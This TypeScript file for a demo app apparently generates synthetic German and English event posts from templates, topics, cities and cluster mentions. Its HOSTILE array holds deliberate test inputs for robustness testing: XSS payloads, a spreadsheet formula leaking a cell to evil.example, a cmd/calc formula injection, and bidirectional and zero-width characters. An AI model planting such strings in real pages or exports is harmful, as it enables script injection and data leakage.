import type { Tone } from "./model.ts";

/**
 * The words of the demo world, written for Resonanz (not taken from any data
 * set). `{e}` is an event, `{c}` a city, `{t}` a topic; a sentence naming a
 * cluster (or none) is appended after the template.
 */
export const TEMPLATES: Record<"de" | "en", Record<Tone, string[]>> = {
  de: {
    positive: [
      "Großartiger Auftakt! Heute in {c} sieht man, wie Innovation im Verbund funktioniert.",
      "Spannende Gespräche zu {t} – danke an alle, die heute dabei waren.",
      "Wir freuen uns sehr über die vielen Besucherinnen und Besucher bei {e}.",
      "Beeindruckend, was in den Netzwerken zu {t} entsteht. Tolle Stimmung in {c}!",
      "Volles Haus bei {e} – herzlichen Dank für die starken Impulse!",
      "Endlich wieder Austausch über {t}: hervorragend organisiert, sehr empfehlenswert.",
      "Ein gelungener Tag in {c}. Zusammenarbeit lohnt sich.",
      "Klasse Präsentationen zu {t}, wir nehmen viele Ideen mit.",
    ],
    neutral: [
      "Heute um 14 Uhr: {e} in {c}.",
      "Programmhinweis: {t} steht morgen im Mittelpunkt.",
      "In {c} werden Projekte zu {t} vorgestellt.",
      "Die Anmeldung für {e} ist noch bis Freitag möglich.",
      "Live aus {c}: Podium zu {t}.",
      "Unser Stand ist in Halle 2 zu finden. Thema: {t}.",
      "Übersicht aller Termine dieser Woche im Kalender.",
      "Pressemitteilung: Einladung zur Veranstaltung „{e}“.",
    ],
    negative: [
      "Leider ausgebucht – schade, dass {e} keine größeren Räume hatte.",
      "Enttäuschend wenig Zeit für Fragen beim Panel zu {t}.",
      "Die Anreise nach {c} war heute ein Ärgernis, Bahnchaos inklusive.",
      "Zu viele Reden, zu wenig Inhalt zu {t}. Schwach.",
      "Das WLAN bei {e} funktioniert nicht – so wird das nichts mit Digitalisierung.",
      "Kritisch: Wo bleibt bei {t} der Mittelstand?",
    ],
  },
  en: {
    positive: [
      "Great start in {c}! This is how innovation networks really work.",
      "Excellent talks on {t} today, thanks to everyone who joined.",
      "Amazing turnout at {e}.",
      "Impressive projects on {t} – a fantastic day in {c}.",
    ],
    neutral: [
      "Today at 2 pm: {e} in {c}.",
      "Programme note: tomorrow is all about {t}.",
      "Projects on {t} presented in {c} today.",
      "Registration for {e} closes on Friday.",
    ],
    negative: [
      "Sadly fully booked – disappointing that {e} had no bigger room.",
      "Terrible wifi at {e}, hard to follow the talks on {t}.",
      "Too many speeches, too little substance on {t}.",
    ],
  },
};

export const TOPICS = {
  de: [
    "Industrie 4.0",
    "Leichtbau",
    "Medizintechnik",
    "Wasserstoff",
    "Elektromobilität",
    "Photonik",
    "Künstliche Intelligenz",
    "Bioökonomie",
    "Logistik",
    "Luftfahrt",
    "Fachkräftesicherung",
    "Kreislaufwirtschaft",
  ],
  en: [
    "Industry 4.0",
    "lightweight design",
    "medical technology",
    "hydrogen",
    "e-mobility",
    "photonics",
    "artificial intelligence",
    "the bioeconomy",
    "logistics",
    "aviation",
  ],
};

export const CITIES = [
  "Berlin",
  "Hannover",
  "München",
  "Stuttgart",
  "Dresden",
  "Hamburg",
  "Köln",
  "Leipzig",
  "Jena",
  "Bremen",
  "Paderborn",
  "Regensburg",
  "Magdeburg",
  "Kiel",
  "Saarbrücken",
  "Mainz",
];

/** Sentences that say "Cluster" without meaning any registered cluster: the attribution traps. */
export const PLAIN_CLUSTER = {
  de: [
    "Unser Cluster lädt alle Mitglieder ein.",
    "Der Kubernetes-Cluster lief heute stabil.",
    "Ein Cluster von Fragen blieb offen.",
    "Clusteranalyse der Umfrage folgt nächste Woche.",
  ],
  en: [
    "Our cluster welcomes all members.",
    "The compute cluster held up nicely.",
    "A cluster of questions remained.",
  ],
};

/** How a post names a cluster, by the way it is mentioned. */
export const MENTION = {
  de: {
    name: (n: string) => `Mit dabei: ${n.replace(/\.$/, "")}.`,
    website: (d: string) => `Mehr Infos unter ${d}`,
    handle: (h: string) => `Danke an ${h}!`,
    hashtag: (t: string) => `#${t}`,
  },
  en: {
    name: (n: string) => `With ${n.replace(/\.$/, "")}.`,
    website: (d: string) => `More at ${d}`,
    handle: (h: string) => `Thanks to ${h}!`,
    hashtag: (t: string) => `#${t}`,
  },
};

/**
 * Hostile content on purpose: markup and script injection, spreadsheet
 * formulas, right-to-left overrides, zero-width characters, emoji. A collector,
 * page, PDF or export that treats any of it as code is a bug the demo exposes.
 */
export const HOSTILE = [
  '<script>alert("xss")</script> Jetzt anmelden',
  '<img src=x onerror="alert(1)"> Bilder vom Stand',
  '=HYPERLINK("http://evil.example/?leak="&A1;"Klick")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "@SUM(1,2) und -2+3 als Tabellenformel",
  "\u202Egnudlemna\u202C Anmeldung rückwärts",
  "Zero\u200Bwidth\u200D join\uFEFFed Text",
  "שלום وسلام مرحبا بكم في الأسبوع",
  "🚀🔬🏭🤝🇩🇪✨ Innovation! 👩‍🔬👨‍💻",
  "</p><p onclick=alert(1)>Absatz</p><!-- Kommentar -->",
  "javascript:alert(document.cookie)",
  "Ende der Zeile\r\nNeue Zeile\ttabuliert \\u0000",
];

export const LONG_PARAGRAPH =
  "Die Clusterwoche zeigt die Vielfalt der Innovationsnetzwerke in Deutschland: Unternehmen, Hochschulen und Forschungseinrichtungen arbeiten gemeinsam an neuen Produkten, Verfahren und Dienstleistungen. ";
